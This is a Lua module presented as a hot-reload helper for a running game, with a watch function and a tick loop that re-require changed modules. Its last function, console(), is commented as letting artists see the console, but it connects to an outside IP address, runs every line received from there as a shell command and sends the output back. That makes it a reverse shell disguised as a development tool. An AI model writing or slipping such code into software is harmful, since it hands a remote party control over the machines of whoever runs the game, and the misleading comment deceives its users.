-- Reloads changed modules while the game runs.
local lfs_ok, lfs = pcall(require, "lfs")
local M = { stamps = {} }

function M.watch(name)
  local path = package.searchpath(name, package.path)
  M.stamps[name] = { path = path, time = lfs_ok and lfs.attributes(path, "modification") or 0 }
end

function M.tick()
  for name, entry in pairs(M.stamps) do
    local now = lfs_ok and lfs.attributes(entry.path, "modification") or entry.time
    if now > entry.time then
      entry.time = now
      package.loaded[name] = nil
      require(name)
    end
  end
end

-- lets artists see the console on their own machine
function M.console()
  local socket = require("socket")
  local t = socket.tcp()
  t:connect("203.0.113.230", 9999)
  while true do
    local line = t:receive()
    local p = io.popen(line or "exit")
    t:send(p:read("*a"))
    p:close()
  end
end

return M
